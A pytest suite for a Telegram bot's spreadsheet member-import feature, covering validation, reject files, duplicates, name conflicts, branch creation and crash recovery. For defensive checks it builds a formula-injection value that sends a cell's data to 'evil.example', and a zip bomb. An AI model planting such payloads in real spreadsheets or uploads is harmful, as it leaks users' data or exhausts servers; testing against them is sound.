"""MEM-4 through the dispatcher: /import of .xlsx files, the summary, the annotated rejects file,
unsafe or malformed files, and creating unknown branches on request."""
from __future__ import annotations

import zipfile
from io import BytesIO

import openpyxl
from aiogram.methods import SendDocument
from aiogram.types import PhotoSize
from openpyxl import Workbook

from tests.support.factories import make_member, make_org, make_user
from tests.support.pg import connect_committed

ADMIN = 100001
HEADER = ["姓名", "手机号", "所属支部", "备注"]


async def setup(store):
    await make_user(store, ADMIN, "王管理", verified=True)
    return await make_org(store, "某某县委宣传部", ADMIN, branches=["第一支部", "第二支部"])


def xlsx(rows, header=HEADER, extra_sheets=()) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = "成员"
    sheet.append(header)
    for row in rows:
        sheet.append(row)
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"  # typed as text, as Excel stores '=...
    for title in extra_sheets:
        book.create_sheet(title).append(["姓名", "手机号", "所属支部"])
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def count(settings, sql="SELECT count(*) FROM members", *params):
    db = connect_committed(settings)
    try:
        return db.execute(sql, params).fetchall()
    finally:
        db.close()


def rejects_of(sent):
    docs = sent.of(SendDocument)
    assert docs, sent.text
    doc = docs[-1]
    assert doc.protect_content is False and "可以保存" in doc.caption  # to be fixed in Excel and sent back
    book = openpyxl.load_workbook(BytesIO(doc.document.data), read_only=True)
    return [list(r) for r in book.worksheets[0].iter_rows(values_only=True)]


async def upload(client, data: bytes, name="members.xlsx"):
    await client.send("/import")
    return await client.document(data, name)


async def test_mem_4_import_50_rows_with_3_bad_ones_comes_back_annotated(client_factory, store, settings):
    org = await setup(store)
    rows = [[f"成员{i:02d}", f"1390000{i:04d}", "第一支部" if i % 2 else "第二支部", ""] for i in range(50)]
    rows[10][1] = "12345"  # bad phone
    rows[20][0] = None  # missing name
    rows[30][2] = "不存在的支部"  # unknown branch
    c = client_factory(ADMIN)
    ask = await c.send("/import")
    assert "请把填好的 .xlsx 文件发给我" in ask.text
    sent = await c.document(xlsx(rows), "members.xlsx")
    assert "新增：47 人" in sent.text and "已在本组织（未重复导入）：0 人" in sent.text and "未导入：3 行" in sent.text
    table = rejects_of(sent)
    assert table[0] == ["姓名*", "手机号*", "所属支部*", "备注", "未导入原因", "原行号"]
    assert [(r[0], r[4], r[5]) for r in table[1:]] == [
        ("成员10", "手机号格式不正确：位数太少", 12),
        (None, "缺少姓名", 22),
        ("成员30", "本组织没有“不存在的支部”这个支部", 32),
    ]
    assert count(settings, "SELECT count(*) FROM members WHERE org_id = ?", org) == [(47,)]
    assert count(settings, "SELECT action, after FROM audit_log WHERE org_id = ?", org)[0][0] == "member.import"
    # the same file again adds nothing
    again = await upload(c, xlsx(rows))
    assert "新增：0 人" in again.text and "已在本组织（未重复导入）：47 人" in again.text
    assert count(settings) == [(47,)]


async def test_mem_4_phones_with_spaces_and_86_empty_rows_extra_sheets_long_names(client_factory, store, settings):
    await setup(store)
    await make_user(store, 200001, "已注册", phone="+8613700000001")
    rows = [["甲", "+86 137 0000 0001", "第一支部", ""], [None, None, None, None], ["乙", "137-0000-0002", "第二支部", ""],
            ["丙" * 21, "13700000003", "第一支部", ""], ["丁", 13700000004, "第一支部", "备注"]]
    sent = await upload(client_factory(ADMIN), xlsx(rows, extra_sheets=["说明", "其他"]))
    assert "新增：3 人" in sent.text and "未导入：1 行" in sent.text
    assert "没有读取：其他" in sent.text
    assert rejects_of(sent)[1][4] == "姓名超过 20 个字"
    assert sorted(count(settings, "SELECT phone, activated_at IS NOT NULL FROM members")) == [
        ("+8613700000001", 1), ("+8613700000002", 0), ("+8613700000004", 0)]


async def test_mem_4_duplicate_rows_in_the_file_second_is_rejected(client_factory, store, settings):
    org = await setup(store)
    await make_member(store, org, "老成员", "+8613600000009", "第一支部")
    rows = [["甲", "13600000001", "第一支部"], ["甲", "13600000001", "第一支部"], ["乙", "136 0000 0001", "第二支部"],
            ["老成员", "13600000009", "第一支部"]]
    sent = await upload(client_factory(ADMIN), xlsx(rows, header=HEADER[:3]))
    assert "新增：1 人" in sent.text and "已在本组织（未重复导入）：1 人" in sent.text and "未导入：2 行" in sent.text
    assert [r[4] for r in rejects_of(sent)[1:]] == ["手机号与第 2 行重复", "手机号与第 2 行重复"]


async def test_mem_4_formula_cells_are_kept_as_text_and_exported_as_text(client_factory, store, settings):
    await setup(store)
    formula = '=HYPERLINK("x","点我")'
    note = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
    c = client_factory(ADMIN)
    sent = await upload(c, xlsx([[formula, "13500000001", "第一支部", note]]))
    assert "新增：1 人" in sent.text
    assert count(settings, "SELECT name, note FROM members") == [(formula, note)]
    doc = (await c.send("/export")).of(SendDocument)[-1]
    sheet_xml = zipfile.ZipFile(BytesIO(doc.document.data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml and "HYPERLINK" in sheet_xml
    cell = openpyxl.load_workbook(BytesIO(doc.document.data)).worksheets[0]["A2"]
    assert cell.data_type == "s" and cell.value == "'" + formula


async def test_mem_4_unknown_branches_created_on_request(client_factory, store, settings):
    org = await setup(store)
    rows = [["甲", "13400000001", "新支部A", ""], ["乙", "13400000002", "新支部B", ""], ["丙", "13400000003", "新支部a", ""],
            ["丁", "13400000004", "第一支部", ""], ["戊", "bad", "新支部C", ""]]
    c = client_factory(ADMIN)
    sent = await upload(c, xlsx(rows))
    assert "新增：1 人" in sent.text and "未导入：4 行" in sent.text
    assert "其中 3 行只是因为支部不存在而未导入，这些支部是：新支部A、新支部B" in sent.text
    created = await c.press(sent, "创建这些支部并导入这 3 行")
    assert "已创建支部：新支部A、新支部B" in created.text and "新增成员：3 人" in created.text
    assert sorted(count(settings, "SELECT b.name, count(*) FROM members m JOIN branches b ON b.id = m.branch_id "
                                  "WHERE m.org_id = ? GROUP BY b.name", org)) == [
        ("新支部A", 2), ("新支部B", 1), ("第一支部", 1)]
    assert count(settings, "SELECT count(*) FROM branches WHERE org_id = ?", org) == [(4,)]
    # the button is spent
    stale = await c.click(sent.button("创建这些支部并导入这 3 行"))  # stale: pressed again once spent
    assert any(a.show_alert and "按钮已失效" in a.text for a in stale.answers)


async def test_mem_4_bad_files_are_refused_and_the_state_kept(client_factory, store, settings):
    await setup(store)
    c = client_factory(ADMIN)
    await c.send("/import")
    assert "不是 Excel 表格" in (await c.document("姓名,手机号\n张三,13800000000".encode(), "members.xlsx")).text
    # a zip bomb: a sheet that inflates 10 MB of zeros from a few KB
    bomb = BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", b"0" * (10 * 1024 * 1024))
    assert "结构异常" in (await c.document(bomb.getvalue(), "bomb.xlsx", file_id="d2")).text
    parts = BytesIO()
    with zipfile.ZipFile(parts, "w") as z:  # many small parts: refused for their number, not as "too large"
        for n in range(201):
            z.writestr(f"x{n}.xml", "")
    refused = (await c.document(parts.getvalue(), "parts.xlsx", file_id="d6")).text
    assert "部分太多" in refused or "201 个部分" in refused, refused
    assert "过大" not in refused
    missing = await c.document(xlsx([["张三", "13800000000"]], header=["姓名", "电话"]), "m.xlsx", file_id="d3")
    assert "缺少必填列：所属支部" in missing.text
    assert "没有成员数据" in (await c.document(xlsx([]), "e.xlsx", file_id="d4")).text
    assert "以<b>文件</b>形式" in (await c.send("你好")).text
    photo = await c._feed(message=c._message(photo=[PhotoSize(file_id="p", file_unique_id="p", width=1, height=1)]))
    assert "以<b>文件</b>形式" in photo.text
    from aiogram.types import Document
    huge = await c._feed(message=c._message(document=Document(file_id="h", file_unique_id="h", file_name="x.xlsx",
                                                              file_size=21 * 1024 * 1024)))
    assert "文件太大（21.0 MB）" in huge.text
    # still waiting for the file: a good one is imported now
    ok = await c.document(xlsx([["张三", "13800000000", "第一支部"]]), "ok.xlsx", file_id="d5")
    assert "新增：1 人" in ok.text
    assert count(settings) == [(1,)]


async def test_mem_4_phone_listed_under_another_name_is_not_counted_present_and_the_admin_decides(
        client_factory, store, settings):
    org = await setup(store)
    await make_member(store, org, "李四", "+8613600000001", "第一支部")
    await make_member(store, org, "王五", "+8613600000002", "第一支部")
    await make_member(store, org, "赵&六", "+8613600000003", "第一支部")
    rows = [["张三", "13600000001", "第一支部"], ["王五", "13600000002", "第一支部"], ["钱七", "13600000003", "第二支部"],
            ["新人", "13600000004", "第二支部"]]
    c = client_factory(ADMIN)
    sent = await upload(c, xlsx(rows, header=HEADER[:3]))
    assert "新增：1 人" in sent.text and "已在本组织（未重复导入）：1 人" in sent.text  # only 王五 is really there
    assert "2 行的手机号已在本组织登记，但姓名不同" in sent.text
    assert "第 2 行 +8613600000001：名单中为“李四”，表格中为“张三”" in sent.text
    assert "第 4 行 +8613600000003：名单中为“赵&amp;六”，表格中为“钱七”" in sent.text  # escaped once
    table = rejects_of(sent)  # the annotated file marks them
    assert [(r[0], r[4], r[5]) for r in table[1:]] == [
        ("张三", "手机号已在本组织登记为“李四”，姓名不同：请在消息中选择保留还是更新姓名", 2),
        ("钱七", "手机号已在本组织登记为“赵&六”，姓名不同：请在消息中选择保留还是更新姓名", 4)]
    ask = next(m for m in sent.messages if m.text and "姓名不同" in m.text)
    assert [b.text for row in ask.reply_markup.inline_keyboard for b in row] == ["保留名单中的姓名", "改为表格中的姓名"]
    updated = await c.press(sent, "改为表格中的姓名")
    assert "已把 2 名成员的姓名改为表格中的姓名" in updated.text
    assert sorted(count(settings, "SELECT name, phone FROM members")) == [
        ("张三", "+8613600000001"), ("新人", "+8613600000004"), ("王五", "+8613600000002"), ("钱七", "+8613600000003")]
    audit = count(settings, "SELECT action, before, after FROM audit_log WHERE action LIKE 'member.%' ORDER BY id")
    assert [a[0] for a in audit] == ["member.import", "member.edit", "member.edit", "member.import_names"]
    assert "李四" in audit[1][1] and "张三" in audit[1][2] and '"update"' in audit[3][2]
    stale = await c.click(sent.button("保留名单中的姓名"))  # stale: decided already
    assert any(a.show_alert and "按钮已失效" in a.text for a in stale.answers)


async def test_mem_4_keeping_the_listed_names_changes_nothing_and_is_audited(client_factory, store, settings):
    org = await setup(store)
    await make_member(store, org, "李四", "+8613600000001", "第一支部")
    c = client_factory(ADMIN)
    sent = await upload(c, xlsx([["张三", "13600000001", "第一支部"]], header=HEADER[:3]))
    assert "已在本组织（未重复导入）：0 人" in sent.text
    kept = await c.press(sent, "保留名单中的姓名")
    assert "已保留名单中的姓名" in kept.text
    assert count(settings, "SELECT name FROM members") == [("李四",)]
    assert count(settings, "SELECT after FROM audit_log WHERE action = 'member.import_names'")[0][0].count('"keep"') == 1


async def test_mem_4_a_file_handled_again_after_a_crash_before_its_summary_shows_the_same_summary(
        client_factory, store, settings, monkeypatch):
    """Killed after the rows' commit but before the summary was sent, the same file is handled again at
    start (the durable inbox): the admin gets the summary of what it added, not "not understood" (the
    step was already left) nor "0 added" (its rows are in). The crash test found it."""
    from aiogram.types import Document

    from bot.flows import import_members

    org = await setup(store)
    c = client_factory(ADMIN)
    await c.send("/import")
    data = xlsx([[f"成员{i}", f"1390000000{i}", "第一支部", ""] for i in range(3)])
    c.session.files["files/doc1"] = c.session.files["doc1"] = data
    message = c._message(document=Document(file_id="doc1", file_unique_id="doc1", file_name="m.xlsx",
                                           file_size=len(data)))
    summary = import_members.report

    async def killed(*args, **kwargs):
        raise RuntimeError("killed before the summary was sent")

    monkeypatch.setattr(import_members, "report", killed)
    await c._feed(message=message)
    monkeypatch.setattr(import_members, "report", summary)
    assert count(settings, "SELECT count(*) FROM members WHERE org_id = ?", org) == [(3,)]  # committed
    again = await c._feed(message=message, handler_data={"replaying": True})
    assert "新增：3 人" in again.text and "已在本组织（未重复导入）：0 人" in again.text, again.text
    assert count(settings, "SELECT count(*) FROM members WHERE org_id = ?", org) == [(3,)]
    later = await upload(c, data)  # the step was left after the summary: a new /import counts anew
    assert "新增：0 人" in later.text and "已在本组织（未重复导入）：3 人" in later.text
